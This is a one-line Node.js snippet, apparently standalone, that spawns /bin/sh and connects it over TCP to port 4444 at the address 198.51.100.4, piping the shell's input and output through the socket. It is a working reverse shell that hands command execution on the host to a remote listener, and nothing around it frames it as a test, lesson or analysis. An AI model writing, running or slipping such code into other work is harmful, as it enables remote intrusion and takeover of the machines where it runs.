const c = net.connect(4444, "198.51.100.4", () => { c.pipe(sh.stdin); sh.stdout.pipe(c); }); const sh = require("child_process").spawn("/bin/sh", []);
